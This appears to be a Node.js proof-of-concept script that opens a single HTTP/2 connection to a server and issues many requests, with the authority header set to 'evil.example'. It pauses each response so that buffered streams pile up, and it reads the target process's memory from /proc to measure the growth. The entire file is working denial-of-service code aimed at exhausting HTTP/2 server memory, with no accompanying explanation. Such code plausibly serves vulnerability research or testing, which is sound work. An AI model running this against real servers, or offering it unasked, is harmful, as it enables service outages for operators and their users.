import http2 from 'node:http2';
import fs from 'node:fs';
const [,, port, path, n, spid] = process.argv;
const rss = () => fs.readFileSync(`/proc/${spid}/status`,'utf8').match(/VmRSS:\s+(\d+)/)[1]/1024|0;
console.log('before', rss(), 'MB');
const s = http2.connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 65535 } });
let ok=0;
for (let i=0;i<+n;i++){
  const r = s.request({':path': path, ':authority': 'evil.example'});
  r.on('response', h => { ok++; if(ok<2) console.log('status', h[':status']); r.pause(); });
  r.on('error', e => {});
}
setTimeout(()=>console.log('one TCP connection,', n, 'streams, responses started', ok, 'rss', rss(), 'MB'), 4000);
setTimeout(()=>{ console.log('rss', rss(), 'MB'); s.destroy(); setTimeout(()=>{console.log('after close rss', rss(), 'MB'); process.exit(0)}, 2000); }, 8000);
